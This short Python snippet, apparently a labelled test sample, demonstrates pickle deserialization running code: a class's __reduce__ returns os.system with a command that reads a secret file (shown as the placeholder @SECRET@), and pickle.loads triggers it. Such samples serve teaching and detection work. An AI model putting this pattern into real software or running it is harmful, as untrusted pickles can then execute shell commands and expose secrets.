# A pickle calls what its __reduce__ named.
# effect: run
import os
import pickle
class Trap:
    def __reduce__(self):
        return os.system, ("cat @SECRET@",)
pickle.loads(pickle.dumps(Trap()))
